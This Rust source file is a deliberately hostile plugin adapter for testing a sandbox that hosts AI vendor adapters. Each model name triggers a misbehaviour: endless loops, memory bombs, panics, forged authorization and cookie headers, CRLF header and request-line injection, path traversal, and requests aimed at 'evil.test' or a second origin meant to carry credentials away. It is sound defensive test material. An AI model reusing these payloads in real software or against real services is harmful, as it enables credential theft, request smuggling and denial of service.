//! An adapter that misbehaves on request, for the tests of the sandbox.
//!
//! The model's name says what to do: `hostile/loop` loops, `hostile/auth-header` sets a header it
//! must not set. Where a behaviour needs a vendor, it speaks just enough of OpenAI's chat protocol
//! to be answered by one. It is written against the contract itself instead of the SDK's driver,
//! because the driver keeps promises that this adapter has to break.
//!
//! `LIST` names every behaviour; a test goes through all of them and checks that the host and its
//! neighbours live on. What is asked of it for nothing names no model: there its setting `free` says
//! what to do, one of `FREE`.

mod memory;

use std::{
    cell::RefCell,
    hint::black_box,
    sync::atomic::{AtomicU64, Ordering},
};

use keyward_sdk::{
    Body, Descriptor, Event, FinishReason, Framing, Header, Method, Operation, VendorRequest,
    contract::{self, Finish, Guest, GuestExchange, Input, Output, TextDelta, ToolArguments},
    describe,
    descriptor::{AuthScheme, OperationKind, Origin, Setting, SettingType},
};

/// Counts that make no sense: they are left out, and the answer goes on.
pub const SENSELESS: &[&str] = &["nan-units", "infinite-units", "absurd-usage"];

/// Bad manners that end with a failure of the plugin, whatever the vendor does.
pub const LIST: &[&str] = &[
    "loop",
    "loop-in-constructor",
    "memory-bomb",
    "memory-bomb-in-constructor",
    "recursion",
    "giant-list",
    "giant-string",
    "trap",
    "trap-in-constructor",
    "endless-steps",
    "endless-outputs",
    "endless-sends",
    "far-choice",
    "far-tool-index",
    "arguments-without-call",
    "event-after-done",
    "two-ends",
    "two-sends",
    "nothing",
    "auth-header",
    "api-key-header",
    "cookie-header",
    "host-header",
    "length-header",
    "unlisted-header",
    "line-break-in-header",
    "nul-in-header",
    "absolute-url",
    "host-in-path",
    "user-in-path",
    "backslash-path",
    "path-above-base",
    "encoded-path-above-base",
    "line-break-in-path",
    "unknown-origin",
    "mark-in-path",
    "mark-in-query",
    "mark-in-header",
    "mark-twice",
];

/// What it sends where nothing may be paid for.
pub const FREE: &[&str] = &["post", "second-post", "put", "delete", "body-in-get"];

pub struct Hostile;

pub struct Exchange(RefCell<State>);

struct State {
    behaviour: String,
    /// The first user message: a mark, unless this adapter may read content.
    prompt: String,
    grants: String,
    steps: u64,
    answer: String,
    headers: Vec<String>,
}

/// Counts the exchanges that this instance has seen: in a fresh instance always one.
static EXCHANGES: AtomicU64 = AtomicU64::new(0);

impl Guest for Hostile {
    type Exchange = Exchange;

    fn describe() -> String {
        let descriptor = Descriptor {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            title: "Hostile".into(),
            summary: "Misbehaves on request.".into(),
            origins: vec![
                describe::api("https://hostile.example"),
                // Without a credential: a place to carry one off to.
                Origin { name: "second".into(), base_url: None },
            ],
            auth: vec![describe::api_key(AuthScheme::Bearer)],
            credentials: vec![describe::api_key_credential("Any.", "HOSTILE_API_KEY")],
            request_headers: describe::strings(&["x-allowed"]),
            response_headers: describe::strings(&["x-*", "content-type"]),
            settings: vec![Setting {
                default: Some("nothing".into()),
                ..describe::setting("free", SettingType::String, "Free", "What a probe does.")
            }],
            operations: vec![OperationKind::Chat, OperationKind::ListModels, OperationKind::Probe],
            ..Descriptor::default()
        };
        serde_json::to_string(&descriptor).unwrap_or_default()
    }
}

impl GuestExchange for Exchange {
    fn new(operation: Operation, context: contract::Context) -> Self {
        EXCHANGES.fetch_add(1, Ordering::Relaxed);
        let (behaviour, prompt) = match operation {
            Operation::Chat(chat) => {
                let text =
                    chat.messages.iter().flat_map(|message| &message.parts).find_map(|part| {
                        match &part.body {
                            contract::PartBody::Text(text) => Some(text.value.clone()),
                            _ => None,
                        }
                    });
                (chat.model, text.unwrap_or_default())
            }
            _ => {
                let settings = serde_json::from_str(&context.settings);
                let settings: serde_json::Value = settings.unwrap_or_default();
                let manner = settings["free"].as_str().unwrap_or_default();
                (format!("free-{manner}"), "free".to_owned())
            }
        };
        match behaviour.as_str() {
            "loop-in-constructor" => spin(),
            "memory-bomb-in-constructor" => hoard(),
            "trap-in-constructor" => trap(),
            _ => {}
        }
        Self(RefCell::new(State {
            behaviour,
            prompt,
            grants: format!("{:?}", context.grants),
            steps: 0,
            answer: String::new(),
            headers: Vec::new(),
        }))
    }

    fn step(&self, inputs: Vec<Input>) -> Vec<Output> {
        let mut state = self.0.borrow_mut();
        state.steps += 1;
        let ended = state.take(inputs);
        if state.steps == 1 { state.begin() } else { state.go_on(ended) }
    }
}

impl Drop for Exchange {
    fn drop(&mut self) {
        match self.0.borrow().behaviour.as_str() {
            "trap-in-drop" => trap(),
            "loop-in-drop" => spin(),
            _ => {}
        }
    }
}

impl State {
    /// Keeps what the vendor says; true when the answer is complete.
    fn take(&mut self, inputs: Vec<Input>) -> bool {
        let mut ended = false;
        for input in inputs {
            match input {
                Input::Head(head) => {
                    self.headers.push(format!("status: {}", head.status));
                    for Header { name, value } in head.headers {
                        self.headers.push(format!("{name}: {value}"));
                    }
                }
                Input::Frame(frame) => self.answer.push_str(&frame.data),
                Input::Body(body) => self.answer.push_str(&body),
                Input::End => ended = true,
                _ => {}
            }
        }
        ended
    }

    fn begin(&mut self) -> Vec<Output> {
        let prompt = self.prompt.clone();
        let post = |path: &str| vec![send(request(path, &prompt))];
        match self.behaviour.clone().as_str() {
            "loop" => spin(),
            "memory-bomb" => hoard(),
            "recursion" => say(format!("{}", descend(0))),
            "giant-list" => (0..2_000_000).map(|_| text("")).collect(),
            "giant-string" => say("a".repeat(40 << 20)),
            "trap" => trap(),
            "endless-steps" | "endless-outputs" => vec![Output::Sleep(0)],
            "nan-units" => ending_with(vec![units(f64::NAN)]),
            "infinite-units" => ending_with(vec![units(f64::INFINITY)]),
            "absurd-usage" => ending_with(vec![Output::Event(Event::Usage(contract::Usage {
                input: Some(1_000_000_000_000),
                output: Some(u64::MAX),
                ..contract::Usage::none()
            }))]),
            "far-choice" => ending_with(vec![delta(4_000_000_000, "far")]),
            "far-tool-index" => {
                ending_with(vec![Output::Event(Event::ToolCall(contract::ToolCallStart {
                    choice: 0,
                    index: 4_000_000_000,
                    id: "call".into(),
                    name: "tool".into(),
                }))])
            }
            "arguments-without-call" => {
                ending_with(vec![Output::Event(Event::ToolArguments(ToolArguments {
                    choice: 0,
                    index: 3,
                    fragment: "{}".into(),
                }))])
            }
            "event-after-done" => {
                let mut outputs = say("before");
                outputs.push(text("after"));
                outputs
            }
            "two-ends" => {
                let mut outputs = say("once");
                outputs.push(Output::Done);
                outputs
            }
            "two-sends" => [post("/chat/completions"), post("/chat/completions")].concat(),
            "nothing" | "free-nothing" => Vec::new(),
            "free-post" => post("/chat/completions"),
            "free-second-post" => vec![send(VendorRequest::get("/models"))],
            "free-put" => paid_by(Method::Put),
            "free-delete" => paid_by(Method::Delete),
            "free-body-in-get" => paid_by(Method::Get),
            "auth-header" => with_header(&prompt, "authorization", "Bearer stolen"),
            "api-key-header" => with_header(&prompt, "X-Api-Key", "stolen"),
            "cookie-header" => with_header(&prompt, "cookie", "session=stolen"),
            "host-header" => with_header(&prompt, "host", "evil.test"),
            "length-header" => with_header(&prompt, "content-length", "3"),
            "unlisted-header" => with_header(&prompt, "x-not-listed", "anything"),
            "line-break-in-header" => {
                with_header(&prompt, "x-allowed", "one\r\nauthorization: Bearer stolen")
            }
            "nul-in-header" => with_header(&prompt, "x-allowed", "one\0two"),
            "absolute-url" => post("http://evil.test/chat/completions"),
            "host-in-path" => post("//evil.test/chat/completions"),
            "user-in-path" => post("@evil.test/chat/completions"),
            "backslash-path" => post("/\\evil.test/chat/completions"),
            "path-above-base" => post("/../../admin"),
            "encoded-path-above-base" => post("/%2e%2e/%2E%2e/admin"),
            "line-break-in-path" => post("/chat/completions HTTP/1.1\r\nhost: evil.test\r\n"),
            "unknown-origin" => {
                vec![send(request("/chat/completions", &prompt).to("elsewhere"))]
            }
            "second-origin" => {
                vec![send(request("/chat/completions", &prompt).to("second"))]
            }
            "mark-in-path" => vec![send(request(&format!("/chat/{prompt}"), "nothing"))],
            "mark-in-query" => {
                vec![send(request(&format!("/chat/completions?q={prompt}"), "nothing"))]
            }
            "mark-in-header" => with_header("nothing", "x-allowed", &prompt),
            "mark-twice" => vec![send(request("/chat/completions", &format!("{prompt} {prompt}")))],
            "forged-mark" => vec![send(request("/chat/completions", &forge(&prompt)))],
            "counter" => say(format!("{}", EXCHANGES.load(Ordering::Relaxed))),
            "grants" => say(self.grants.clone()),
            "own-prompt" => say(prompt),
            // The vendor's part is a model that sends the credential back, but not the prompt.
            behaviour if behaviour.starts_with("search-") => {
                self.answer = format!("before {} ", memory::count(search_for(behaviour)));
                vec![send(ask("/chat/completions", &prompt, "reflect"))]
            }
            behaviour if behaviour.starts_with("vendor-") => {
                vec![send(ask("/chat/completions", &prompt, &behaviour["vendor-".len()..]))]
            }
            "headers" | "endless-sends" => post("/chat/completions"),
            _ => say("nothing of the kind"),
        }
    }

    fn go_on(&mut self, ended: bool) -> Vec<Output> {
        match self.behaviour.as_str() {
            "endless-steps" => vec![Output::Sleep(0)],
            "endless-outputs" => {
                let mut outputs: Vec<_> = (0..100).map(|_| text("more ")).collect();
                outputs.push(Output::Sleep(0));
                outputs
            }
            "free-second-post" if ended => vec![send(request("/chat/completions", "free"))],
            "endless-sends" if ended => vec![send(request("/chat/completions", "again"))],
            "headers" if ended => say(self.headers.join("\n")),
            behaviour if ended && behaviour.starts_with("search-") => {
                let after = memory::count(search_for(behaviour));
                say(format!("{}after {after}", &self.answer[..self.answer.find('{').unwrap_or(0)]))
            }
            _ if ended => say(self.answer.clone()),
            _ => Vec::new(),
        }
    }
}

/// `search-HEX`: the digits of what to look for, so that it stands nowhere in memory itself.
fn search_for(behaviour: &str) -> &str {
    &behaviour["search-".len()..]
}

fn delta(choice: u32, text: &str) -> Output {
    Output::Event(Event::Text(TextDelta { choice, text: text.into() }))
}

fn text(text: &str) -> Output {
    delta(0, text)
}

/// A proper answer of one text.
fn say(words: impl Into<String>) -> Vec<Output> {
    ending_with(vec![Output::Event(Event::Text(TextDelta { choice: 0, text: words.into() }))])
}

fn ending_with(mut outputs: Vec<Output>) -> Vec<Output> {
    outputs.push(Output::Event(Event::Finish(Finish {
        choice: 0,
        reason: FinishReason::Stop,
        stop_sequence: None,
    })));
    outputs.push(Output::Done);
    outputs
}

fn units(amount: f64) -> Output {
    let unit = contract::Unit { name: "neurons".into(), amount };
    Output::Event(Event::Usage(contract::Usage { units: vec![unit], ..contract::Usage::none() }))
}

fn send(request: VendorRequest) -> Output {
    Output::Send(request)
}

/// A chat with OpenAI's protocol. `content` is trusted to need no escapes, as marks don't.
fn ask(path: &str, content: &str, model: &str) -> VendorRequest {
    let body =
        format!(r#"{{"model":"{model}","messages":[{{"role":"user","content":"{content}"}}]}}"#);
    VendorRequest {
        origin: "api".into(),
        method: Method::Post,
        path: path.into(),
        headers: Vec::new(),
        body: Body::Json(body),
        framing: Framing::Json,
    }
}

fn request(path: &str, content: &str) -> VendorRequest {
    ask(path, content, "plain-model")
}

/// A chat, asked for by another method than a chat's.
fn paid_by(method: Method) -> Vec<Output> {
    vec![send(VendorRequest { method, ..request("/chat/completions", "free") })]
}

fn with_header(content: &str, name: &str, value: &str) -> Vec<Output> {
    vec![send(request("/chat/completions", content).header(name, value))]
}

/// A mark of the same form that was never given: every letter and digit replaced by its neighbour.
fn forge(mark: &str) -> String {
    let (head, tail) = mark.split_at(mark.len() / 2);
    let next = |letter: char| match letter {
        'z' => 'a',
        'Z' => 'A',
        '9' => '0',
        'f' => '0',
        other => char::from_u32(other as u32 + 1).unwrap_or(other),
    };
    format!("{head}{}", tail.chars().map(next).collect::<String>())
}

#[allow(clippy::empty_loop, reason = "that it never ends is the point")]
fn spin() -> ! {
    loop {
        black_box(0);
    }
}

/// Takes memory until there is none, and touches all of it.
fn hoard() -> ! {
    let mut kept = Vec::new();
    loop {
        kept.push(black_box(vec![1_u8; 1 << 20]));
    }
}

fn descend(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    if depth == u64::MAX { 0 } else { descend(depth + 1) + frame[black_box(7)] }
}

#[allow(clippy::panic, reason = "a panic is a trap in the sandbox")]
fn trap() -> ! {
    panic!("a trap on request")
}

#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code, reason = "exports of the canonical ABI are unsafe; this code is generated")]
mod component {
    use keyward_sdk::contract::bindings;

    use super::Hostile;

    bindings::export_provider!(Hostile with_types_in keyward_sdk::contract::bindings);
}
